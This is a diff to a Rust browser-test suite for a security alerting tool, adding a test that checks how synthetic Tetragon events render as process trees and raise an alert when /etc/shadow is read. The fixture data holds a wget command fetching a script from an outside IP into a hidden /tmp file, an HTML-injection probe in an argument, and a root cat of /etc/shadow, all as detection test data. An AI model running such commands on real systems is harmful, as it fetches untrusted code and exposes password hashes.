@@ -4,7 +4,9 @@
 //! dark theme apply and are remembered after a reload; a silence made on an alert's page
 //! holds back the next matching alert while others still go out; an alert episode is one
 //! row of the alert list from firing to resolved, and its page shows its lifecycle; the
-//! alert list pages to its oldest alerts and back.
+//! alert list pages to its oldest alerts and back; a Tetragon event shows its process
+//! tree (parent above, process under it, pod, node, kprobe file) before its JSON in the
+//! stream and on its alert's page.
 //!
 //! Each test saves a screenshot as `<target dir>/screenshots/<name>.png` (and
 //! `<name>-failed.png` when a wait times out). The browser tests run one at a time (two
@@ -1470,5 +1472,294 @@ async fn the_demo_stream_shows_each_event_and_alert_once_under_three_toasts() {
     let (base, uuid) = link.split_once("/#/workloads/").expect("a workload page");
     assert!(base.starts_with("http://127.0.0.1:"), "{link}");
     assert!(!uuid.is_empty() && !uuid.contains('/'), "{link}");
+    page.close().await;
+}
+
+/// A file source reading Tetragon's export (`decode: tetragon`) → a filter on a file read
+/// of `/etc/passwd` or `/etc/shadow` → `opened` (window_count, threshold 1) → a file.
+const TETRAGON: &str = r#"kind: pipeline
+name: t
+description: Tetragon events
+sources:
+  tetragon: {type: file, path: "{dir}/tetragon.log", decode: tetragon, poll_interval: 50ms}
+stages:
+  match:
+    type: filter
+    inputs: [tetragon]
+    match:
+      event.type: process_kprobe
+      arg.file.path: [/etc/passwd, /etc/shadow]
+  opened:
+    type: window_count
+    inputs: [match]
+    window: 1m
+    threshold: 1
+    group_by: [node_name, process.binary, arg.file.path]
+    alert: {severity: critical, title: "{{group.arg.file.path}} opened by {{group.process.binary}}", mode: each_crossing}
+sinks:
+  out:
+    type: file
+    inputs: [opened]
+    path: "{dir}/out.jsonl"
+"#;
+
+/// A pod of the `shop` namespace as Tetragon writes it.
+fn tetragon_pod() -> Value {
+    json!({
+        "namespace": "shop",
+        "name": "web-5c8f9",
+        "container": {
+            "id": "containerd://4be1f0c2d9",
+            "name": "web",
+            "image": {"id": "registry.local/web@sha256:77aa01", "name": "registry.local/web:2.3"},
+            "start_time": "2026-03-02T08:00:00Z",
+            "pid": 7
+        },
+        "pod_labels": {"app": "web"},
+        "workload": "web"
+    })
+}
+
+/// The live stream and an alert's page show a Tetragon event's process tree before its
+/// JSON: the event type and the kprobe's function, policy and action; the parent's
+/// command above the process's (binary and arguments, pid, uid, cwd), indented under it;
+/// the pod, its image and the node; the file the kprobe saw. The stream has the decoder's
+/// fields, the alert's sample the line as Tetragon wrote it; the raw JSON is a click away.
+/// The values go in as text (an argument that reads as HTML stays text). In 繁體中文 the
+/// labels are translated.
+#[tokio::test(flavor = "multi_thread")]
+async fn tetragon_events_show_their_process_tree_before_the_json() {
+    let v = tokio::task::spawn_blocking(|| start_pipeline("", TETRAGON, &[]))
+        .await
+        .expect("start");
+    let page = Page::open("tetragon", &format!("{}/#/stream", v.base)).await;
+    page.wait(
+        "the stream to connect",
+        "return document.querySelector('#s-status')?.dataset.state === 'live';",
+        vec![],
+    )
+    .await;
+
+    // curl's cousin fetching a script, started by a shell; then cat reading /etc/shadow.
+    let exec = json!({
+        "process_exec": {
+            "process": {
+                "exec_id": "d29ya2VyLTM6OTkwMTI6NDQxMDc=",
+                "pid": 44107, "uid": 1000, "cwd": "/srv/app",
+                "binary": "/usr/bin/wget",
+                "arguments": "-q -O /tmp/.x http://198.51.100.7/x.sh",
+                "flags": "execve clone",
+                "start_time": "2026-03-02T09:14:05.120Z",
+                "auid": 1000,
+                "pod": tetragon_pod(),
+                "parent_exec_id": "d29ya2VyLTM6OTkwMDA6NDQwOTA=",
+                "tid": 44107
+            },
+            "parent": {
+                "exec_id": "d29ya2VyLTM6OTkwMDA6NDQwOTA=",
+                "pid": 44090, "uid": 1000, "cwd": "/srv/app",
+                "binary": "/bin/sh",
+                "arguments": "-c \"wget -q -O /tmp/.x http://198.51.100.7/x.sh # <img src=x>\"",
+                "flags": "execve clone",
+                "start_time": "2026-03-02T09:14:04.900Z",
+                "pod": tetragon_pod(),
+                "tid": 44090
+            }
+        },
+        "node_name": "worker-3",
+        "time": "2026-03-02T09:14:05.121Z"
+    });
+    let kprobe = json!({
+        "process_kprobe": {
+            "process": {
+                "exec_id": "d29ya2VyLTM6OTk1MDA6NDQyMjI=",
+                "pid": 44222, "uid": 0, "cwd": "/",
+                "binary": "/usr/bin/cat",
+                "arguments": "/etc/shadow",
+                "flags": "execve rootcwd clone",
+                "start_time": "2026-03-02T09:14:06.500Z",
+                "auid": 4294967295u32,
+                "pod": tetragon_pod(),
+                "parent_exec_id": "d29ya2VyLTM6OTk0MDA6NDQyMDA=",
+                "refcnt": 1,
+                "tid": 44222
+            },
+            "parent": {
+                "exec_id": "d29ya2VyLTM6OTk0MDA6NDQyMDA=",
+                "pid": 44200, "uid": 0, "cwd": "/",
+                "binary": "/bin/bash",
+                "flags": "execve rootcwd clone",
+                "start_time": "2026-03-02T09:14:01.000Z",
+                "pod": tetragon_pod(),
+                "tid": 44200
+            },
+            "function_name": "security_file_permission",
+            "args": [{"file_arg": {"path": "/etc/shadow", "permission": "-rw-r-----"}}, {"int_arg": 4}],
+            "return": {"int_arg": 0},
+            "action": "KPROBE_ACTION_POST",
+            "policy_name": "file-monitoring",
+            "return_action": "KPROBE_ACTION_POST"
+        },
+        "node_name": "worker-3",
+        "time": "2026-03-02T09:14:06.600Z"
+    });
+    {
+        let mut f = std::fs::OpenOptions::new()
+            .create(true)
+            .append(true)
+            .open(v._dir.path().join("tetragon.log"))
+            .expect("the export file");
+        writeln!(f, "{exec}\n{kprobe}").expect("write");
+    }
+
+    // What a row's (or a sample's) process view shows, as text.
+    const VIEW: &str = "const view = (root) => { const p = root && root.querySelector('.proc'); if (!p) return null; \
+         const text = (css) => p.querySelector(css)?.textContent ?? null; \
+         const left = (css) => p.querySelector(css)?.getBoundingClientRect().left ?? 0; \
+         const raw = p.querySelector('details.proc-raw'); \
+         return { type: text('.proc-type'), fn: text('.proc-fn'), \
+           policy: text('[data-fact=\"policy\"]'), action: text('.proc-action'), \
+           cmd: text('.proc-self .proc-cmd'), bin: text('.proc-self .proc-bin'), \
+           pid: text('.proc-self [data-fact=\"pid\"]'), uid: text('.proc-self [data-fact=\"uid\"]'), \
+           cwd: text('.proc-self [data-fact=\"cwd\"]'), \
+           parent: text('.proc-parent > .proc-line .proc-cmd'), parent_bin: text('.proc-parent > .proc-line .proc-bin'), \
+           parent_pid: text('.proc-parent > .proc-line [data-fact=\"pid\"]'), \
+           indented: left('.proc-self .proc-line') > left('.proc-parent > .proc-line'), \
+           pod: text('[data-fact=\"pod\"]'), image: text('[data-fact=\"image\"]'), node: text('[data-fact=\"node\"]'), \
+           file: text('[data-fact=\"file\"]'), permission: text('[data-fact=\"permission\"]'), \
+           tree_first: !!(raw && (p.querySelector('.proc-tree').compareDocumentPosition(raw) & Node.DOCUMENT_POSITION_FOLLOWING)), \
+           raw_open: raw ? raw.open : null, raw: raw?.querySelector('pre.json')?.textContent ?? '', \
+           elements: p.querySelectorAll('img, script').length }; };";
+
+    // The stream: the decoder's fields, drawn as a tree.
+    let rows = page
+        .wait(
+            "both events and the alert in the stream",
+            &format!(
+                "{VIEW} const rows = [...document.querySelectorAll('#stream-rows tr.stream-event')]; \
+                 const of = (t) => rows.map(view).find((v) => v && v.type === t); \
+                 const alert = document.querySelector('#stream-rows tr.stream-alert a'); \
+                 const exec = of('process_exec'), kprobe = of('process_kprobe'); \
+                 return exec && kprobe && alert ? {{ exec, kprobe, alert: alert.textContent }} : null;"
+            ),
+            vec![],
+        )
+        .await;
+    let exec_row = &rows["exec"];
+    assert_eq!(
+        exec_row["cmd"], "/usr/bin/wget -q -O /tmp/.x http://198.51.100.7/x.sh",
+        "{rows}"
+    );
+    assert_eq!(exec_row["bin"], "/usr/bin/wget", "{rows}");
+    assert_eq!(exec_row["pid"], "pid 44107", "{rows}");
+    assert_eq!(exec_row["uid"], "uid 1000", "{rows}");
+    assert_eq!(exec_row["cwd"], "cwd /srv/app", "{rows}");
+    assert_eq!(
+        exec_row["parent"],
+        "/bin/sh -c \"wget -q -O /tmp/.x http://198.51.100.7/x.sh # <img src=x>\"",
+        "an argument that reads as HTML is shown as text: {rows}"
+    );
+    assert_eq!(
+        exec_row["elements"], 0,
+        "no element made from the data: {rows}"
+    );
+    assert_eq!(exec_row["parent_bin"], "/bin/sh", "{rows}");
+    assert_eq!(exec_row["parent_pid"], "pid 44090", "{rows}");
+    assert_eq!(
+        exec_row["indented"], true,
+        "the process is under its parent: {rows}"
+    );
+    assert_eq!(exec_row["pod"], "Pod shop/web-5c8f9", "{rows}");
+    assert_eq!(exec_row["image"], "Image registry.local/web:2.3", "{rows}");
+    assert_eq!(exec_row["node"], "Node worker-3", "{rows}");
+    assert_eq!(exec_row["tree_first"], true, "{rows}");
+    assert_eq!(exec_row["raw_open"], false, "the JSON is folded: {rows}");
+    assert!(
+        exec_row["raw"]
+            .as_str()
+            .is_some_and(|r| r.contains("\"binary\": \"/usr/bin/wget\"")),
+        "the decoder's fields under it: {rows}"
+    );
+    let kprobe_row = &rows["kprobe"];
+    assert_eq!(kprobe_row["fn"], "security_file_permission", "{rows}");
+    assert_eq!(kprobe_row["policy"], "policy file-monitoring", "{rows}");
+    assert_eq!(kprobe_row["action"], "KPROBE_ACTION_POST", "{rows}");
+    assert_eq!(kprobe_row["cmd"], "/usr/bin/cat /etc/shadow", "{rows}");
+    assert_eq!(kprobe_row["parent"], "/bin/bash", "{rows}");
+    assert_eq!(kprobe_row["file"], "File /etc/shadow", "{rows}");
+    assert_eq!(kprobe_row["permission"], "Permission -rw-r-----", "{rows}");
+    assert_eq!(
+        rows["alert"], "/etc/shadow opened by /usr/bin/cat",
+        "{rows}"
+    );
+    page.screenshot("tetragon-stream").await;
+
+    // The alert's page: its sample is the line as Tetragon wrote it, drawn the same way.
+    page.click("#stream-rows tr.stream-alert a").await;
+    let sample = page
+        .wait(
+            "the alert's sample as a process tree",
+            &format!("{VIEW} return view(document.querySelector('#samples .sample'));"),
+            vec![],
+        )
+        .await;
+    assert_eq!(sample["type"], "process_kprobe", "{sample}");
+    assert_eq!(sample["fn"], "security_file_permission", "{sample}");
+    assert_eq!(sample["policy"], "policy file-monitoring", "{sample}");
+    assert_eq!(sample["cmd"], "/usr/bin/cat /etc/shadow", "{sample}");
+    assert_eq!(sample["pid"], "pid 44222", "{sample}");
+    assert_eq!(sample["parent"], "/bin/bash", "{sample}");
+    assert_eq!(sample["parent_pid"], "pid 44200", "{sample}");
+    assert_eq!(sample["indented"], true, "{sample}");
+    assert_eq!(sample["pod"], "Pod shop/web-5c8f9", "{sample}");
+    assert_eq!(sample["image"], "Image registry.local/web:2.3", "{sample}");
+    assert_eq!(sample["node"], "Node worker-3", "{sample}");
+    assert_eq!(sample["file"], "File /etc/shadow", "{sample}");
+    assert_eq!(sample["permission"], "Permission -rw-r-----", "{sample}");
+    assert_eq!(sample["tree_first"], true, "{sample}");
+    assert_eq!(sample["raw_open"], false, "{sample}");
+    assert!(
+        sample["raw"]
+            .as_str()
+            .is_some_and(|r| r.contains("\"process_kprobe\": {")
+                && r.contains("\"function_name\": \"security_file_permission\"")),
+        "the raw line under it: {sample}"
+    );
+    // The raw JSON opens with a click.
+    page.click("#samples details.proc-raw > summary").await;
+    page.wait(
+        "the raw JSON shown",
+        "const d = document.querySelector('#samples details.proc-raw'); \
+         return d.open && d.querySelector('pre.json').getBoundingClientRect().height > 50;",
+        vec![],
+    )
+    .await;
+    page.screenshot("tetragon-alert").await;
+
+    // 繁體中文, dark.
+    page.client
+        .find(Locator::Css("#lang"))
+        .await
+        .expect("language")
+        .select_by_value("zh-TW")
+        .await
+        .expect("select");
+    page.click("#theme-toggle").await;
+    let zh = page
+        .wait(
+            "the sample's labels in Chinese",
+            "const p = document.querySelector('#samples .sample .proc'); \
+             if (document.documentElement.dataset.theme !== 'dark' || !p) return null; \
+             const text = (css) => p.querySelector(css)?.textContent; \
+             return text('.proc-parent .proc-role') === '父行程' && [text('.proc-self .proc-role'), \
+               text('[data-fact=\"file\"]'), text('[data-fact=\"node\"]'), text('details.proc-raw > summary')];",
+            vec![],
+        )
+        .await;
+    assert_eq!(
+        zh,
+        json!(["行程", "檔案 /etc/shadow", "節點 worker-3", "原始 JSON"])
+    );
+    page.screenshot("tetragon-alert-zh-dark").await;
     page.close().await;
 }
